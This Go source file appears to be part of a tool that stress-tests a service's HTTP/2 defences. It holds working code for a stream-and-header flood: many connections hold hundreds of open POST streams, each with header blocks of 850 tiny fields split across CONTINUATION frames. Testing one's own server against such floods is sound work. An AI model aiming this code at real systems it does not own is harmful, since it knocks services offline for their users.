//go:build linux

package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	streamConns   = 60
	streamsOfConn = 250
	smallFields   = 850
)

// attackStreams holds HTTP/2 connections with open POST streams.
func attackStreams(ctx context.Context, a *attacker, rate float64) {
	pace := newPacer(rate)
	defer pace.Stop()
	var running sync.WaitGroup
	for i := range streamConns {
		running.Go(func() {
			for pace.wait(ctx) {
				a.holdStreams(ctx, i)
				if !sleep(ctx, time.Second) {
					return
				}
			}
		})
	}
	running.Wait()
}

// A streamConn is an HTTP/2 connection of the attack.
type streamConn struct {
	a      *attacker
	framer *http2.Framer
	closed chan struct{} // by the service

	writing sync.Mutex // guards the framer's writes
}

// holdStreams opens streams on one connection until the service closes it.
func (a *attacker) holdStreams(ctx context.Context, kind int) {
	conn, err := a.dial(ctx, "h2")
	if err != nil {
		return
	}
	defer conn.Close()
	a.count("connections")
	conn.SetWriteDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	c := &streamConn{a: a, framer: http2.NewFramer(conn, conn), closed: make(chan struct{})}
	if err := c.framer.WriteSettings(); err != nil {
		return
	}
	go func() {
		defer close(c.closed)
		c.readFrames()
	}()
	c.openStreams(ctx, kind)
}

// openStreams opens streamsOfConn streams, and then another one each 100 ms in
// place of those that were refused.
func (c *streamConn) openStreams(ctx context.Context, kind int) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for n := 0; ; n++ {
		if n >= streamsOfConn {
			select {
			case <-c.closed:
				return
			case <-ctx.Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
		block.Reset()
		c.a.encodeHeader(encoder, kind)
		if err := c.writeHeaders(uint32(2*n+1), block.Bytes()); err != nil {
			c.a.count("closed while sending")
			return
		}
		c.a.count("streams")
	}
}

// encodeHeader encodes a POST request with many small fields: distinct ones,
// equal ones, which take a byte each on the wire, or none.
func (a *attacker) encodeHeader(e *hpack.Encoder, kind int) {
	field := func(name, value string) { e.WriteField(hpack.HeaderField{Name: name, Value: value}) }
	field(":method", "POST")
	field(":scheme", "https")
	field(":authority", "localhost")
	field(":path", "/ingest")
	if a.Key != "" {
		field("authorization", "Bearer "+a.Key)
	}
	for i := range smallFields {
		switch kind % 3 {
		case 0:
			field(fmt.Sprintf("a%d", i), "")
		case 1:
			field("a", "")
		}
	}
}

// writeHeaders sends a header block, in frames of at most 16 KiB. The stream
// stays open.
func (c *streamConn) writeHeaders(stream uint32, block []byte) error {
	c.writing.Lock()
	defer c.writing.Unlock()
	first := block[:min(len(block), 16<<10)]
	block = block[len(first):]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      stream,
		BlockFragment: first,
		EndHeaders:    len(block) == 0,
	})
	for err == nil && len(block) > 0 {
		next := block[:min(len(block), 16<<10)]
		block = block[len(next):]
		err = c.framer.WriteContinuation(stream, len(block) == 0, next)
	}
	return err
}

// readFrames acknowledges settings, and counts what the service refuses, until
// the connection is closed.
func (c *streamConn) readFrames() {
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				c.writing.Lock()
				c.framer.WriteSettingsAck() // if this fails, so does the next read
				c.writing.Unlock()
			}
		case *http2.RSTStreamFrame:
			c.a.count("reset " + frame.ErrCode.String())
		case *http2.GoAwayFrame:
			c.a.count("go away " + frame.ErrCode.String())
		case *http2.HeadersFrame:
			c.a.count("responses")
		}
	}
}
